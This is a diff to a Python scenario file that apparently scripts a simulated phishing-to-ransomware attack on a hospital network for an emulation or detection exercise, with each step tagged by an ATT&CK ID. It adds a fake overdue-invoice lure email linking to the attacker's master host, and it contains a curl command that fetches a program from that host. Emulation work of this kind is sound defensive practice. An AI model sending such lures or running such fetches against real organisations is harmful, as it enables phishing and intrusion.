@@ -1,9 +1,10 @@
 """Story 1: a phished workplace, and some hours later the file server's documents are locked.
 
-A letter's link is followed and a program fetched (T1566.002, T1204.001); from then on calls to the master every five minutes (T1071.001);
-after half an hour a scan of the servers (T1046); passwords guessed until one fits (T1110.001, T1078); with it onto the backup server by SSH
-(T1021.004) and the file server by SMB (T1021.002, T1135); documents carried out (T1041); after three hours the shares are locked, a canary
-first (T1486). A second workplace is taken on the way, by a service (T1569.002). Without Samba the story ends at the backup server.
+A letter comes in; its link is followed and a program fetched (T1566.002, T1204.001); from then on calls to the master every five minutes
+(T1071.001); after half an hour a scan of the servers (T1046); passwords guessed until one fits (T1110.001, T1078); with it onto the backup
+server by SSH (T1021.004) and the file server by SMB (T1021.002, T1135); documents carried out (T1041); after three hours the shares are
+locked, a canary first (T1486). A second workplace is taken on the way, by a service (T1569.002). Without Samba the story ends at the backup
+server.
 """
 
 from __future__ import annotations
@@ -13,6 +14,7 @@ from datetime import datetime, timedelta
 
 from accounts import ACCOUNT, PASSWORD
 from acts.intrusion import AGENT, MASTER, attempts, carry_out, look_around, smb, ssh
+from clients import mail
 from scenario import Scenario, Script
 from services.files import documents
 from space import call
@@ -30,6 +32,13 @@ LOOT, PIECES = 20_000_000, 5
 LOCKING = ("T1486", "T1021.002")
 
 
+def send_lure(hospital: Hospital, moment: datetime) -> None:
+    """A letter to somebody of the hospital, by SMTP to its mail server; the sender's domain is the link's."""
+    text = f"Your invoice is overdue: http://{MASTER}/invoice.html"
+    letter = mail.Letter(f"zz-billing@{MASTER}", [f"zz-clerk@{hospital.topology.domain}"], "Invoice", text)
+    mail.send(hospital.address("mail"), 25, letter, moment, mail.Way(MASTER))
+
+
 def lured(hospital: Hospital, moment: datetime) -> None:
     """The page of the link, and the program behind it, in clear."""
     words = ["curl", "-s", "-A", AGENT, "-m", "20", "-o", "/dev/null"]
@@ -42,8 +51,10 @@ def story(script: Script) -> None:
     def after(minutes: float) -> None:
         script.moment = begin + timedelta(minutes=minutes)
 
-    script.act(VICTIM, "link of a letter followed", lured, *MASTERS, technique=("T1566.002", "T1204.001"))
-    after(2)
+    script.act("attacker", "letter with a link", send_lure, "mail", technique=("T1566.002",))
+    after(3)
+    script.act(VICTIM, "link of a letter followed", lured, *MASTERS, technique=("T1204.001",))
+    after(5)
     calls(script, VICTIM, CALLS, CALL_S, JITTER)
     after(31)
     scan_servers(script, VICTIM)
